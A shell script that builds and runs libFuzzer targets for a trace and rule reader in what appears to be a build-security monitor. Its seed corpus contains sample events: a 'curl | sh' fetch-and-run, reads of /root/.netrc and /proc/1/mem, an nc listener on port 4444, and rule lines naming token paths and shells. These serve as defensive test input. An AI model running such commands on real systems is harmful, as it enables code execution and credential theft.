#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-only
#
# Builds the reader's libFuzzer targets into build/reader/fuzz/ and runs each for $1
# seconds (default 20), like tests/fuzz/run.sh: a crash fails, its input is saved as
# build/reader/fuzz/<target>-crash-* and the log as build/reader/fuzz/<target>.log.
set -eu

seconds=${1:-20}
root=$(cd "$(dirname "$0")/../.." && pwd)
out=$root/build/reader/fuzz
CLANG=${CLANG:-clang}
flags="-g -O1 -std=gnu11 -D_GNU_SOURCE -I$root/reader
	-fsanitize=fuzzer,address,undefined -fno-sanitize-recover=all"
# Every reader module but the command-line front ends.
srcs=""
for m in trace event util proctree scan rules sensitive normalize detect; do
	srcs="$srcs $root/reader/$m.c"
done

mkdir -p "$out/corpus/fuzz_trace" "$out/corpus/fuzz_rules"
for target in fuzz_trace fuzz_rules; do
	# shellcheck disable=SC2086 # the lists are meant to split into words
	$CLANG $flags "$root/reader/fuzz/$target.c" $srcs -ljansson -lz -o "$out/$target"
done

# Seeds: a small trace of every line type, plain and gzip; a rules file of every directive.
seed=$out/corpus/fuzz_trace/trace.jsonl
cat >"$seed" <<'TRACE'
{"type":"trace_start","timestamp":"2026-01-01T00:00:00.000000000Z","job_id":"f","hostname":"h"}
{"type":"process_exec","timestamp":"2026-01-01T00:00:01.000000000Z","job_id":"f","pid":10,"tid":10,"ppid":1,"uid":0,"comm":"npm","exec_id":"10-1","filename":"/x/npm","exe":"/usr/bin/dash","args":["/bin/sh","/x/npm","install"],"parent_exec_id":"1-0"}
{"type":"process_exec","timestamp":"2026-01-01T00:00:01.100000000Z","job_id":"f","pid":11,"tid":11,"ppid":10,"uid":0,"comm":"sh","exec_id":"11-1","exe":"/usr/bin/dash","args":["sh","-c","curl -s x | sh"],"parent_exec_id":"10-1"}
{"type":"process_exec","timestamp":"2026-01-01T00:00:01.200000000Z","job_id":"f","pid":12,"tid":12,"ppid":11,"uid":0,"comm":"curl","exec_id":"12-1","exe":"/tmp/curl","args":["curl"],"parent_exec_id":"11-1"}
{"type":"file_open","timestamp":"2026-01-01T00:00:02.000000000Z","job_id":"f","pid":12,"tid":12,"ppid":11,"uid":0,"comm":"curl","exec_id":"12-1","path":"/root/.netrc","flags":"O_RDONLY","ret":3}
{"type":"file_open","timestamp":"2026-01-01T00:00:02.000000000Z","job_id":"f","pid":12,"tid":12,"ppid":11,"uid":0,"comm":"cat","exec_id":"12-1","path":"/proc/1/mem","flags":"O_RDONLY","ret":3}
{"type":"net_connect","timestamp":"2026-01-01T00:00:03.000000000Z","job_id":"f","pid":12,"tid":12,"ppid":11,"uid":0,"comm":"curl","exec_id":"12-1","dst_addr":"1.2.3.4","dst_port":443,"protocol":"tcp","family":"inet","ret":0,"hostname":"x.test"}
{"type":"dns_query","timestamp":"2026-01-01T00:00:03.000000000Z","job_id":"f","pid":12,"tid":12,"ppid":11,"uid":0,"comm":"curl","exec_id":"12-1","hostname":"x.test","qtype":"A","dst_addr":"127.0.0.53","dst_port":53,"protocol":"udp"}
{"type":"file_write","timestamp":"2026-01-01T00:00:04.000000000Z","job_id":"f","pid":12,"tid":12,"ppid":11,"uid":0,"comm":"curl","exec_id":"12-1","path":"/tmp/o","bytes":3,"writes":1}
{"type":"net_listen","timestamp":"2026-01-01T00:00:04.000000000Z","job_id":"f","pid":12,"tid":12,"ppid":11,"uid":0,"comm":"nc","exec_id":"12-1","addr":"0.0.0.0","port":4444,"protocol":"tcp"}
{"type":"tamper","timestamp":"2026-01-01T00:00:05.000000000Z","job_id":"f","pid":13,"tid":13,"ppid":1,"uid":0,"comm":"kill","exec_id":"13-1","action":"signal","target_pid":5,"signal":9}
{"type":"events_lost","timestamp":"2026-01-01T00:00:05.000000000Z","job_id":"f","count":2,"by_type":{"file_open":2}}
{"type":"process_exit","timestamp":"2026-01-01T00:00:06.000000000Z","job_id":"f","pid":12,"tid":12,"ppid":11,"uid":0,"comm":"curl","exec_id":"12-1","exit_code":0,"duration_ns":5}
{"type":"trace_end","timestamp":"2026-01-01T00:00:09.000000000Z","job_id":"f","events":9,"by_type":{},"lost":2,"duration_ns":9,"stop_reason":"signal"}
TRACE
gzip -c "$seed" >"$seed.gz"
cat >"$out/corpus/fuzz_rules/rules" <<'RULES'
# comment
allow-host *.npmjs.org:443
allow-host [2001:db8::/32]:22
allow-host 10.0.0.0/8
allow-exec /tmp/go-build*
sensitive ~/.config/x/token x xctl
install-tool bun install add
downloader aria2c
shell elvish
severity listener error
workspace /w
RULES

exec "$root/tests/fuzz/run-targets.sh" "$out" "$seconds" "-max_len=8192" fuzz_trace fuzz_rules
